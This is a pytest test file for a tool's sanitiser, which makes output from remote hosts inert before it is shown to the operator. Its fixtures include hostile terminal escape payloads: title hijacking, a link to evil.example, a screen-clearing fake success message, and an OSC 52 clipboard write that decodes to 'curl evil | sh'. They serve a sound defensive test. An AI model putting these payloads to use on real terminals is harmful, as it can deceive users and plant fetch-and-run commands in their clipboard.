"""Unit tests for kdist.text: host text is inert wherever it is shown, raw in the logs."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from rich.console import Console

from kdist.cli import documents
from kdist.cli.main import _error
from kdist.cli.report import PlainReporter, RichReporter, failure_block, print_table
from kdist.engine.logtail import SliceLog, excerpt, stamp
from kdist.errors import TransferError
from kdist.events import Event, Note, OutputLine, PlanReady, RunFinished, SliceFinished
from kdist.model import Host, KiB, Plan, Platform, Slice, SliceResult, Status
from kdist.remote.probe import parse_probe
from kdist.text import LOG_ERRORS, decode, inert, inert_tree
from kdist.transport.ssh import SshTransport

# What a compromised host prints to take over the operator's terminal.
OSC_TITLE = "\x1b]0;pwned\x07"
OSC_LINK = "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
FAKE_OK = "\x1b[2J\x1b[H\x1b[1;32mrelease ok\x1b[0m"
C1_CSI = "\x9b2J"  # the 8-bit CSI some terminals honour
HOSTILE = OSC_TITLE + OSC_LINK + OSC_CLIPBOARD + FAKE_OK + C1_CSI + "\r\x7f\u202eevil"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f", "\r", "\u202e")


def assert_inert(shown: str) -> None:
    """Nothing a terminal would act on is left in `shown` (newlines aside)."""
    for control in RAW_CONTROLS:
        assert control not in shown, repr(control)


def test_controls_become_visible_escapes() -> None:
    """ESC, BEL, C1, DEL, CR and bidi overrides are shown as escapes; the text around stays."""
    shown = inert(HOSTILE)
    assert_inert(shown)
    assert "\\x1b]0;pwned\\x07" in shown
    assert "\\x1b[2J" in shown and "release ok" in shown
    assert "\\x9b2J" in shown and "\\x7f" in shown and "\\u202eevil" in shown


def test_tab_stays_and_newline_is_chosen_per_use() -> None:
    """A tab is harmless; a newline is kept only when the caller wants several lines."""
    assert inert("a\tb") == "a\tb"
    assert inert("a\nb") == "a\\x0ab"
    assert inert("a\nb", newlines=True) == "a\nb"
    assert inert("é ü 日本 ✓") == "é ü 日本 ✓"


def test_invalid_utf8_becomes_byte_escapes() -> None:
    r"""Bytes that are not UTF-8 (kept by surrogateescape) show as \xNN, the byte sent."""
    assert decode(b"bin\xff\xfe-\xc3\xa9") == "bin\\xff\\xfe-é"
    assert inert(b"x\xff".decode("utf-8", "surrogateescape")) == "x\\xff"
    assert inert("\ud800") == "\\ud800"  # any other lone surrogate cannot be encoded: escaped
    inert(HOSTILE + "\udcff").encode("utf-8")  # always encodable


def test_inert_is_idempotent() -> None:
    """Applying it at the boundary and again in the final guard changes nothing more."""
    once = inert(HOSTILE + "\udcff\n", newlines=True)
    assert inert(once, newlines=True) == once


def test_inert_tree_makes_json_documents_valid_utf8() -> None:
    """Every string of a document, keys included, is inert; the JSON encodes as UTF-8."""
    doc = {"error": HOSTILE + "\udcff", "slices": [{"log_tail": ["a\x1b[2J"]}], "n": 3}
    cleaned = inert_tree(doc)
    text = json.dumps(cleaned, ensure_ascii=False)
    text.encode("utf-8")
    assert_inert(text.replace("\\u001b", ""))  # json's own \u escapes are not raw controls
    assert "\\u001b" not in json.dumps(cleaned)  # nor did an ESC reach the encoder
    assert cleaned["n"] == 3
    assert "\x1b" not in documents.dumps(doc) and "\\\\x1b" in documents.dumps(doc)


def test_logs_keep_the_hosts_bytes_and_never_raise(tmp_path: Path) -> None:
    """A log opened with LOG_ERRORS writes back exactly the bytes the host sent."""
    sent = b"\x1b]0;t\x07 name-\xff\xfe\n"
    log = tmp_path / "x.log"
    with log.open("w", encoding="utf-8", errors=LOG_ERRORS) as handle:
        handle.write(sent.decode("utf-8", "surrogateescape"))
        handle.write("\ud800\n")  # not from a host; written as an escape instead of raising
    assert log.read_bytes() == sent + b"\\ud800\n"


def test_slice_log_keeps_the_hosts_bytes(tmp_path: Path) -> None:
    """A slice log (bounded or not) stores a host line's controls and bad bytes as sent."""
    path = tmp_path / "linux-amd64.log"
    with SliceLog(path, 64 * KiB) as log:
        log.write(b"\x1b[2J name-\xff".decode("utf-8", "surrogateescape"))
    assert path.read_bytes().endswith(b" \x1b[2J name-\xff\n")


def test_log_excerpt_is_inert(tmp_path: Path) -> None:
    """A failed slice's last lines are shown with their controls and bad bytes escaped."""
    log = tmp_path / "linux-amd64.log"
    body = stamp(OSC_TITLE + "compiling").encode() + b"\n"
    body += stamp(FAKE_OK).encode() + b"\n" + stamp("bad \udcff").encode(errors=LOG_ERRORS)
    log.write_bytes(body + b"\n")
    lines = excerpt(log)
    for line in lines:
        assert_inert(line)
    assert lines[0] == "\\x1b]0;pwned\\x07compiling"
    assert lines[1] == "release ok"  # colour and screen codes are noise, dropped as before
    assert lines[2] == "bad \\xff"


def test_probe_tool_versions_are_inert() -> None:
    """`hosts check` shows what `go version` printed, without its controls."""
    facts = parse_probe(f"arch=x86_64\nos=Linux\ntool.go=go version {FAKE_OK}\n")
    assert_inert(facts.tools["go"])
    assert "release ok" in facts.tools["go"]


SLICE = Slice(Platform("linux", "amd64"), "h1", False, "/w", ("make",), "_output/bin")
HOSTILE_RESULT = SliceResult(
    SLICE,
    Status.INTEGRITY,
    1.0,
    phase="pull",
    error=f"h1: linux/amd64: {HOSTILE} is not an executable\n{FAKE_OK}",
    log="/out/logs/linux-amd64.log",
    excerpt=(OSC_CLIPBOARD + "tail", FAKE_OK),
)


def hostile_events() -> list[Event]:
    """A run in which every host-made string carries escape sequences."""
    return [
        PlanReady(Plan(slices=(SLICE,), env={})),
        OutputLine(SLICE.key, HOSTILE),
        Note(f"h1 left out: {HOSTILE}\nsecond {FAKE_OK}", "warning"),
        SliceFinished(HOSTILE_RESULT),
        RunFinished(ok=False, summary={"title": f"FAILED: {FAKE_OK}"}),
    ]


def test_plain_reporter_output_is_inert() -> None:
    """Piped output: no control sequence from any event reaches the stream."""
    out = io.StringIO()
    reporter = PlainReporter(out)
    for event in hostile_events():
        reporter.emit(event)
    text = out.getvalue()
    assert_inert(text)
    assert "\\x1b[2J" in text and not reporter.errors


@pytest.mark.parametrize("width", [80, 200])
def test_rich_reporter_output_has_only_richs_own_escapes(width: int) -> None:
    """On a terminal (no colours) nothing the host sent is drawn raw, live view or summary."""
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=width, color_system=None)
    reporter = RichReporter(console, auto_refresh=False)
    for event in hostile_events():
        reporter.emit(event)
    reporter.close()
    text = buf.getvalue()
    for needle in ("\x1b]", "\x1b[2J", "\x07", "\x9b", "\u202e"):
        assert needle not in text
    assert "\\x1b" in text and not reporter.errors


def test_failure_block_and_tables_are_inert() -> None:
    """The failure summary and printed tables escape whatever a host put in them."""
    heading, lines = failure_block(HOSTILE_RESULT)
    for line in [heading, *lines]:
        assert_inert(line)
    out = io.StringIO()
    print_table("t", ["go"], [[f"go {FAKE_OK}"]], stream=out)
    assert_inert(out.getvalue())


def test_error_lines_and_json_error_document_are_inert(
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The CLI's last line of defence: an error quoting a host is printed inert."""
    _error(TransferError(f"h1: rsync said {HOSTILE}\udcff"), json_since=0.0)
    captured = capsys.readouterr()
    assert_inert(captured.err.replace("\n", ""))
    assert "\\xff" in captured.err
    doc = json.loads(captured.out)
    assert_inert(doc["problems"][0])


def test_an_ssh_disconnect_reason_is_inert() -> None:
    """The server chooses a disconnect's reason text: the error kdist makes of it is inert."""
    transport = SshTransport(Host("h1", address="h1.example"))
    lost = transport._lost("running make", OSError(f"disconnected: {HOSTILE}"))
    assert_inert(str(lost))
    assert "\\x1b]52;c;" in str(lost)
